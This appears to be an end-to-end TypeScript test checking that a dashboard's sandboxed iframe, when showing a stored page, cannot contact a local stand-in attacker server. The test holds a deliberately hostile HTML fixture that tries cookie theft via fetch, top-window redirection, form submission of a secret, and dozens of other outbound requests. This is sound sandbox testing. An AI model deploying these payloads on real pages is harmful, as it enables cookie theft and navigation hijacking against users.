// Costly: whether a frozen page can run anything is up to a browser and its headers.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, expect } from "vitest";
import { journey, openDashboard } from "./support/dashboard.ts";
import { go } from "./support/go.ts";
import { press } from "./support/keyboard.ts";
import { addJob } from "./support/tell-job.ts";

const dashboard = openDashboard();
let attacker: Server;
let asked: string[] = [];

beforeAll(async () => {
  // A connection is enough: it tells who reads the page, and when.
  attacker = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("<h1>Attacker</h1>");
  });
  attacker.on("connection", () => void asked.push("connection"));
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
});
afterAll(() => void attacker.close());

/** As if what makes a page harmless in the sandbox had failed: all that a page may try, as it is. */
const hostilePage = (to: string, own: string) => `<!doctype html>
<head><base href="${to}/base/"><meta http-equiv="refresh" content="0;url=${to}/refresh">
<link rel="stylesheet" href="${to}/style.css"><link rel="preload" as="image" href="${to}/preload"><link rel="icon" href="${to}/icon">
<link rel="prefetch" href="${to}/prefetch"><link rel="modulepreload" href="${to}/module"><link rel="manifest" href="${to}/manifest">
<style>@import url("${to}/import.css"); @font-face { font-family: f; src: url("${to}/font") } body { font-family: f; background: url("${to}/background") }</style>
<script src="${to}/script.js"></script></head>
<body onload="fetch('${to}/onload')">
<script>fetch("${to}/inline?" + document.cookie); top.location = "${to}/top"; parent.document.title = "owned"; open("${to}/open");</script>
<img src="${to}/image" onerror="fetch('${to}/onerror')"><svg><image href="${to}/svg"></image><use href="${to}/use#a"></use></svg>
<iframe src="${to}/frame"></iframe><iframe srcdoc="<script>fetch('${to}/srcdoc')</script>"></iframe><object data="${to}/object"></object><embed src="${to}/embed">
<video src="${to}/video" autoplay poster="${to}/poster"></video><audio src="${to}/audio" autoplay></audio>
<form id="f" action="${to}/form"><input name="secret" value="typed"><button>Send</button></form>
<a href="${to}/link" ping="${to}/ping">Away</a> <a href="${to}/up" target="_top">Up</a> <a href="${to}/new" target="_blank">New</a>
<a href="${own}/app/keys">Own</a><p>The end of the page</p></body>`;

journey("a page of a change, whatever it contains, reaches nothing and nobody", async () => {
  const page = await dashboard.logIn();
  const to = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const { pool } = dashboard.installation.database;
  const { id: projectId } = await dashboard.addSample("Docs");
  const jobId = await addJob(pool, projectId, "Write a page.");
  await pool.query("update jobs set status = 'completed', ended_at = now() where id = $1", [jobId]);
  const insert = `insert into page_pictures (job_id, path, width, side, height, marks, webp, page)
    values ($1, 'docs/a.md', 1280, $2, 9, '[]', 'RIFF', $3)`;
  for (const side of ["before", "after"])
    await pool.query(insert, [jobId, side, gzipSync(hostilePage(to, dashboard.url))]);
  asked = [];
  // Each thing that is forbidden is a complaint.
  dashboard.expectComplaint(/./);
  await go(page, `/app/jobs/${jobId}`);
  const region = page.getByRole("region", { name: "Pages as readers see them" });
  const frame = page.frameLocator('iframe[title="docs/a.md after the change"]');
  const show = async () => {
    for (const name of ["Desktop", "Page"]) await press(region.getByRole("button", { name, exact: true }));
    await frame.getByText("The end of the page").waitFor();
  };
  await show();
  expect(await page.locator("iframe").first().getAttribute("sandbox")).toBe("");
  for (const name of ["Away", "Up", "New", "Own"]) {
    await show();
    await frame.getByRole("link", { name, exact: true }).click();
  }
  await show();
  await frame.getByRole("button", { name: "Send" }).click();
  // A new page in the same browser comes after all that these have started.
  await page.evaluate((url) => fetch(url).catch(() => null), `${dashboard.url}/healthz`);
  expect(page.url()).toBe(`${dashboard.url}/app/jobs/${jobId}`);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.title()).not.toContain("owned");
  expect(asked).toEqual([]);
});
